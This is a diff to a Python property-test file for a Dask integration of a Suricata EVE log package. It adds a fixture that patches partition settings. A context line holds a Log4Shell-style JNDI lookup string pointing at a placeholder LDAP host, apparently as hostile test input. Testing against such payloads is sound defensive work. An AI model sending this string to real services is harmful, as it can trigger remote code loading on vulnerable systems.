@@ -2,8 +2,9 @@
 
 from __future__ import annotations
 
-from collections.abc import Callable
+from collections.abc import Callable, Iterator
 from typing import Any
+from unittest.mock import patch
 
 import pandas as pd
 import pyarrow as pa
@@ -17,6 +18,7 @@ import dask
 from dask_frames import in_parts
 
 import suricata_eve.dask
+from suricata_eve.dask import exchange
 
 pytestmark = [
     pytest.mark.property,
@@ -49,6 +51,13 @@ COLUMNS = {
     "x.share": pa.float64(),
 }
 LOOKUP = "/${jndi:ldap://192.0.2.9/a}"
+
+
+@pytest.fixture(autouse=True, scope="module")
+def _travel() -> Iterator[None]:
+    """Let rows travel as among few partitions, and to as many."""
+    with patch.multiple(exchange, _FEW=16, _SHARE=1):
+        yield
 
 
 def few(*values: Any) -> st.SearchStrategy[Any]:
